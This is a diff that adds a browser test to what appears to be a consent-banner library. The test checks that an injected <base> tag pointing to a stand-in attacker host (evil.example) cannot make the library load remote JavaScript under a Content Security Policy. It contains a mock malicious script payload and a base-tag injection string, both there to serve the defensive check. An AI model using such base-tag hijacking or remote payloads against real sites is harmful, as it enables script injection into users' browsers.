@@ -149,4 +149,21 @@ describeEngines('Under a Content Security Policy', (run) => {
       ),
     ).toBe(nonce)
   })
+
+  test('fetches nothing of its own from where a <base> on the page points', async () => {
+    run.internet.site('evil.example', () => ({
+      body: 'window.pwned = true; export const mount = () => () => {}; export default {}',
+      headers: { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' },
+    }))
+    const policy = strict.replace("; base-uri 'none'", '; trusted-types assent')
+    const base = '<base href="https://evil.example/"><div data-assent-declaration></div>'
+    for (const attributes of ['', 'defer', 'async']) {
+      const tab = await openPage(policy, { head: head(attributes), body: base + body })
+      await tab.part('banner').untilVisible()
+      await tab.waitFor(() => document.querySelector('table'))
+      expect(await tab.evaluate(() => 'pwned' in window)).toBe(false)
+    }
+    const asked = run.internet.requestsTo('evil.example').map(({ path }) => path)
+    expect(asked.filter((path) => path !== '/favicon.ico')).toEqual([])
+  })
 })
